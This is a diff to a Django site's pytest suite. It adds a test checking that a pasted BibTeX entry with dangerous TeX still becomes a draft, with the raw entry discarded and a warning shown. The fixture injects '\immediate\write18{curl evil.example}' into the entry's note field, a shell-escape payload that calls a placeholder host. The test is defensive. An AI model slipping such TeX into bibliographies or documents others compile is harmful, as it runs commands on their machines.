@@ -19,6 +19,7 @@ from urllib.parse import parse_qs, urlsplit
 import pytest
 from bs4 import BeautifulSoup
 from django.contrib.auth.models import Group, Permission
+from django.contrib.messages import get_messages
 
 from homepage.site_tree import ensure_homepage
 from profile_site.models import ProfileSettings
@@ -617,6 +618,22 @@ def test_a_pasted_bibtex_entry_becomes_a_draft(admin_client, index, registry):
     ]
     assert page.bibtex == BIBTEX  # the owner's entry, served as written
     assert not registry.requests  # BibTeX needs no lookup
+
+
+def test_a_pasted_entry_with_tex_that_runs_becomes_a_draft_without_it(admin_client, index, registry):
+    """The draft is read from the entry; the entry itself, which visitors would compile, is not kept."""
+    pasted = BIBTEX.replace(
+        'pages = "963--981",', 'pages = "963--981",\n    note = {\\immediate\\write18{curl evil.example}},'
+    )
+    response = submit(admin_client, pasted)
+    page = PublicationPage.objects.get()
+    assert response["Location"] == f"/admin/pages/{page.pk}/edit/"
+    assert (page.title, page.doi, page.bibtex) == (TITLE, DOI, "")
+    [warning] = [message for message in get_messages(response.wsgi_request) if message.level_tag == "warning"]
+    assert BeautifulSoup(str(warning), "html.parser").get_text(" ", strip=True) == (
+        "The entry holds TeX that reads or writes files, runs programs or redefines commands where a document "
+        "cites it (\\immediate, \\write): it was read, but not kept as the page's own."
+    )
 
 
 def test_unreadable_bibtex_is_a_form_error(admin_client, index, registry):
